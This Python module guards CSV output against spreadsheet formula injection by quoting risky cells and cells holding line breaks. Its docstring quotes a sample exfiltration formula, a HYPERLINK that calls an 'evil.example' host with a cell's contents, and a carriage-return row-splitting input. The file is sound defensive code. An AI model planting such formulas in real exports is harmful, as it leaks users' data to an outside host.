"""CSV written for spreadsheets: no cell runs as a formula, no line break in a cell ends a row.

Names come from whoever configures the platform, and a spreadsheet runs a cell that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula
(`=HYPERLINK("http://evil.example/?x="&A1,"click")`). `csv_safe` gives such a cell a
leading `'` (OWASP's advice on CSV injection), which spreadsheets show as text, and does
the same after every line break inside a cell, so that a reader that cuts lines before it
reads quotes still starts no row with a formula.

A cell holding a line break must be quoted. The standard library's writer quotes only the
characters of its own line ending: with `\\n` a bare `\\r` went out unquoted, and
LibreOffice starts a new row at it (`"\\r=1+2"` became a row whose first cell ran
`=1+2`). `csv_text` writes rows with the standard library, every cell holding a `\\r` or a
`\\n` quoted, each row ended by `\\n` as before.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_PREFIXES", "csv_safe", "csv_text"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a CSV cell as a formula (OWASP)."""

_FORMULA_AFTER_BREAK = re.compile(r"(?:\r\n|\r|\n)(?=[=+\-@\t])")
"""A line break inside a cell followed by a formula prefix (a `\\r` after a break is a
break of its own, guarded at its end)."""


def csv_safe(value: Any) -> Any:
    """A CSV cell a spreadsheet shows as text: a string starting with a formula prefix, at
    its start or after any line break in it, gets a `'` there; anything else is returned
    unchanged.

    >>> csv_safe("\\r=1+2")
    "'\\r'=1+2"
    """
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_PREFIXES):
        value = "'" + value
    return _FORMULA_AFTER_BREAK.sub(lambda match: match.group() + "'", value)


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """`rows` as CSV text, each row ended by `\\n`, every cell holding a carriage return
    or a line feed quoted (cells are written as given: guard them with `csv_safe`)."""
    out = io.StringIO()
    row_text = io.StringIO()
    # Both characters in the writer's line ending: it quotes every cell holding either.
    writer = csv.writer(row_text, lineterminator="\r\n")
    for row in rows:
        writer.writerow(row)
        out.write(row_text.getvalue()[:-2] + "\n")
        row_text.seek(0)
        row_text.truncate()
    return out.getvalue()
